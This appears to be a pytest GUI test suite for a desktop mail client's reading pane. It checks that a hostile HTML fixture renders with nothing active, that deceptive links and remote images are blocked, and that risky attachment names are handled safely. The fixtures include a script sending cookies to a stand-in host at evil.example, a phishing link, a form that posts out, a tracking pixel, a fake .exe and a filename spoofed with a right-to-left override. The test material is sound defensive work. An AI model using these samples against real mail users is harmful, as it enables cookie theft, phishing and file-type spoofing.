"""Reading safely: a hostile HTML mail renders with nothing active; links and attachments."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument

from mailwise_desktop.mail.links import LinkWarning
from mailwise_desktop.services.context import AppContext
from mailwise_desktop.services.reading import OpenedMessage, ReadingService
from mailwise_desktop.store.queries import AttachmentSummary, CachedBody, MessageSummary
from mailwise_desktop.ui.reading_pane import ReadingPane

pytestmark = [
    pytest.mark.gui,
    pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints"),
]

HOSTILE = """<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { background: url(https://evil.example/bg.png) }</style>
<script>document.location = "https://evil.example/steal?c=" + document.cookie</script></head>
<body onload="alert('onload')">
<p>お世話になっております。</p>
<iframe src="https://evil.example/frame"></iframe>
<img src="https://tracker.example/pixel.gif?u=42" width="1" height="1">
<img src="cid:logo@example.jp" alt="logo">
<a href="javascript:alert('x')">ここをクリック</a>
<a href="https://evil.example/login">https://www.mybank.co.jp/login</a>
<a href="https://www.example.jp/info">お知らせ</a>
<form action="https://evil.example/post"><input name="pw"></form>
<object data="https://evil.example/x.swf"></object>
</body></html>"""

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
)


def summary(**kw: object) -> MessageSummary:
    values: dict[str, object] = dict(
        id=1, mailbox_id=1, uid=7, message_id="<h@example>", in_reply_to=None, references=(),
        subject="ご請求について", from_name="攻撃者", from_email="attacker@evil.example",
        to=(("サポート", "support@example.jp"),), cc=(), date=datetime(2026, 11, 29, 1, 42, tzinfo=UTC),
        size=2048, flags=(), seen=False, answered=False, has_attachments=True, state="unhandled",
        owner_slot=None, state_problem=None, body_status="cached", modseq=1,
    )  # fmt: skip
    values.update(kw)
    return MessageSummary(**values)  # type: ignore[arg-type]


def hostile_message(reading: ReadingService, monkeypatch: pytest.MonkeyPatch) -> OpenedMessage:
    attachments = (
        AttachmentSummary("2", "logo.png", "image/png", len(PNG), "logo@example.jp", True),
        AttachmentSummary("3", "請求書.pdf.exe", "application/octet-stream", 120_000, None, False),
        AttachmentSummary("4", "../../見積書\u202efdp.txt", "text/plain", 900, None, False),
    )
    body = CachedBody(b"raw", "text", HOSTILE, (), attachments)
    payloads = {"2": PNG, "3": b"MZ" + b"\0" * 100, "4": b"hello"}
    monkeypatch.setattr(
        ReadingService, "attachment_data", staticmethod(lambda _b, a: payloads[a.part_id])
    )
    return OpenedMessage("support", "INBOX", summary(), body)


@pytest.fixture
def pane(qtbot) -> ReadingPane:
    ctx = AppContext.open()
    widget = ReadingPane(ReadingService(ctx))
    qtbot.addWidget(widget)
    widget.resize(700, 600)
    widget.show()
    return widget


def test_hostile_html_renders_with_nothing_active(pane: ReadingPane, monkeypatch, qtbot) -> None:
    opened = hostile_message(pane.reading, monkeypatch)
    pane.show_message(opened)
    qtbot.wait(50)
    browser = pane.browser
    html = browser.toHtml().lower()
    text = browser.toPlainText()
    assert "お世話になっております" in text
    for active in ("<script", "document.cookie", "<iframe", "javascript:", "onload", "<form",
                   "<input", "<object", "<base", "refresh", "evil.example/frame", "tracker.example"):  # fmt: skip
        assert active not in html, active
    # Only the cid: image was asked for and served from memory; nothing remote was fetched.
    assert all(not r.startswith(("http", "//")) for r in browser.requested), browser.requested
    assert "cid:logo@example.jp" in browser.requested
    image = browser.document().resource(
        QTextDocument.ResourceType.ImageResource, QUrl("cid:logo@example.jp")
    )
    assert image is not None
    # The tracking pixel is blocked, with the bar offering to load it once / always.
    assert pane.remote_bar.isVisible()
    assert [b.text() for b in pane.remote_bar.action_buttons()] == [
        "Load once",
        "Always for attacker@evil.example",
    ]


def test_remote_content_once_and_always(pane: ReadingPane, monkeypatch, qtbot) -> None:
    opened = hostile_message(pane.reading, monkeypatch)
    pane.show_message(opened)
    pane.remote_bar.action_buttons()[0].click()  # load once
    assert not pane.remote_bar.isVisible()
    assert "tracker.example" in pane.browser.toHtml()
    # Even allowed, the viewer itself never fetches from the network: the
    # document asks for the image (when it lays out: at once under Windows'
    # fonts, at the next paint on Linux) and gets a blank pixel from memory.
    tracker = "https://tracker.example/pixel.gif?u=42"
    qtbot.waitUntil(lambda: tracker in pane.browser.requested)
    served = pane.browser.document().resource(
        QTextDocument.ResourceType.ImageResource, QUrl(tracker)
    )
    assert served.size().width() == 1 and served.size().height() == 1
    assert served.pixelColor(0, 0).alpha() == 0
    pane.clear()
    pane.show_message(
        hostile_message(pane.reading, monkeypatch).__class__(
            "support", "INBOX", summary(id=2), opened.body
        )
    )
    assert pane.remote_bar.isVisible(), "once means this message only"
    pane.remote_bar.action_buttons()[1].click()  # always for this sender
    assert pane.reading.ctx.settings.get("remote_content_senders") == ["attacker@evil.example"]
    assert not pane.remote_bar.isVisible()


def test_links_show_the_real_url_and_deceptive_ones_ask(pane: ReadingPane, monkeypatch) -> None:
    pane.show_message(hostile_message(pane.reading, monkeypatch))
    opened: list[str] = []
    asked: list[LinkWarning] = []
    pane.browser.open_external = lambda url: opened.append(url.toString())  # type: ignore[assignment]
    monkeypatch.setattr(pane.browser, "confirm_link", lambda href, w: asked.append(w) or False)

    pane.browser.highlighted.emit(QUrl("https://evil.example/login"))
    assert pane.hover_label.text() == "https://evil.example/login"
    assert pane.browser.toolTip() == "https://evil.example/login"

    # A javascript: link lost its href in sanitising; even if clicked, it never runs.
    assert pane.browser.open_link(QUrl("javascript:alert('x')")) is False
    # The deceptive link asks first; declined, nothing opens.
    assert pane.browser.open_link(QUrl("https://evil.example/login")) is False
    assert asked == [LinkWarning.TEXT_MISMATCH]
    # An honest link opens outside the app, without a question.
    assert pane.browser.open_link(QUrl("https://www.example.jp/info")) is True
    assert opened == ["https://www.example.jp/info"]
    assert len(asked) == 1


def test_attachments_listed_with_size_safe_names_and_warnings(
    pane: ReadingPane, monkeypatch, tmp_path: Path
) -> None:
    pane.show_message(hostile_message(pane.reading, monkeypatch))
    items = [pane.attachments.item(i).text() for i in range(pane.attachments.count())]
    assert len(items) == 2, "the inline logo is part of the body, not the list"
    assert items[0].startswith("⚠ 請求書.pdf.exe  (117 KB) — ")
    assert "second extension" in items[0]
    assert "\u202e" not in items[1] and "/" not in items[1].split("  (")[0]

    warned: list[object] = []
    monkeypatch.setattr(pane, "confirm_risky", lambda a, r: warned.append(r) or True)
    chosen = tmp_path / "x" / "..\u202eexe.txt"
    chosen.parent.mkdir()
    monkeypatch.setattr(
        "mailwise_desktop.ui.reading_pane.QFileDialog.getSaveFileName",
        lambda *a, **k: (str(chosen), ""),
    )
    saved = pane.save_attachment(pane.attachments.item(0).data(0x0100))
    assert warned, "a program gets a warning before it is saved"
    assert saved is not None and saved.parent == chosen.parent
    assert "\u202e" not in saved.name and saved.read_bytes().startswith(b"MZ")


@pytest.mark.parametrize(
    ("href", "opened_as"),
    [
        ("HTTPS://evil.example/", "https://evil.example/"),
        ("https://EVIL.Example/login", "https://evil.example/login"),
        ("https://evil.example/%7Euser", "https://evil.example/~user"),
    ],
)
def test_deceptive_link_check_sees_the_form_qt_opens(
    pane: ReadingPane, href: str, opened_as: str
) -> None:
    """Issue 9 case 6: Qt normalises the URL; the anchor text must still be found."""
    from mailwise_desktop.mail.html_sanitize import sanitize_html

    html = f'<p><a href="{href}">https://bank.com/</a></p>'
    pane.browser.show_html(sanitize_html(html), {})
    asked: list[tuple[str, LinkWarning]] = []
    opened: list[str] = []
    pane.browser.confirm_link = lambda h, w: asked.append((h, w)) or False  # type: ignore[method-assign]
    pane.browser.open_external = lambda url: opened.append(url.toString())  # type: ignore[assignment]
    clicked = QUrl(href)  # what Qt hands to anchorClicked
    assert clicked.toString() == opened_as
    assert pane.browser.open_link(clicked) is False
    assert asked == [(opened_as, LinkWarning.TEXT_MISMATCH)]
    assert opened == []


def test_subjects_and_names_are_plain_text_in_every_label(pane: ReadingPane, monkeypatch) -> None:
    """Issue 9 case 10: a sender's subject with markup shows as the characters it is."""
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QLabel

    banner = (
        '<h1 style="color:red">IT: password expired</h1><a href="https://evil.example/">renew</a>'
    )
    opened = hostile_message(pane.reading, monkeypatch)
    pane.show_message(
        OpenedMessage(
            "support", "INBOX", summary(subject=banner, from_name="<b>社長</b>"), opened.body
        )
    )
    assert pane.subject.text() == banner
    assert pane.subject.textFormat() == Qt.TextFormat.PlainText
    labels = pane.findChildren(QLabel)
    assert labels
    shown = [lab for lab in labels if "<" in lab.text()]
    assert shown, "the subject and the sender name carry markup"
    for label in labels:
        assert label.textFormat() == Qt.TextFormat.PlainText, label.objectName() or label.text()
    # Rendered as plain text, the label's height at its width is the characters'
    # own lines in its font, not an <h1> and a paragraph. (sizeHint() was compared
    # before: its wrap width is Qt's guess from the font's average character
    # width, 3 lines with Linux's font and 6 with Wine's.)
    from PySide6.QtCore import QRect

    width = pane.subject.width()
    metrics = pane.subject.fontMetrics()
    lines = metrics.boundingRect(QRect(0, 0, width, 10_000), Qt.TextFlag.TextWordWrap, banner)
    assert abs(pane.subject.heightForWidth(width) - lines.height()) <= metrics.lineSpacing()


def test_every_window_label_is_created_plain(qtbot) -> None:
    """Each QLabel the ui/ modules create is set to plain text (about.py's own texts aside)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "mailwise_desktop" / "ui"
    for path in sorted(root.glob("*.py")):
        if path.name == "about.py":
            continue
        lines = path.read_text(encoding="utf-8").splitlines()
        for index, line in enumerate(lines):
            found = re.match(r"\s*([\w.]+) = QLabel\(", line)
            if found:
                window = "\n".join(lines[index : index + 8])
                assert f"{found.group(1)}.setTextFormat(Qt.TextFormat.PlainText)" in window, (
                    f"{path.name}:{index + 1}"
                )
        assert "QMessageBox.question(" not in "\n".join(lines), path.name


def test_html_too_big_to_clean_is_shown_as_text_without_holding_the_ui_thread(
    pane: ReadingPane, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A 2 MB hostile HTML body: the sanitizer never runs on the UI thread; the text is shown."""

    def no_sanitizing(*_a: object, **_k: object) -> object:
        raise AssertionError("the sanitizer ran on the UI thread")

    monkeypatch.setattr("mailwise_desktop.ui.reading_pane.sanitize_html", no_sanitizing)
    html = "<div>" * 200_000 + "本文" + "</div>" * 200_000
    body = CachedBody(b"raw", "お見積もりの件です。", html, (), ())
    pane.show_message(OpenedMessage("support", "INBOX", summary(has_attachments=False), body))
    assert "お見積もりの件です。" in pane.browser.toPlainText()

    small = CachedBody(b"raw", "", "<p>小さなメール</p>", (), ())
    monkeypatch.undo()
    pane.show_message(
        OpenedMessage("support", "INBOX", summary(id=2, has_attachments=False), small)
    )
    assert "小さなメール" in pane.browser.toPlainText()
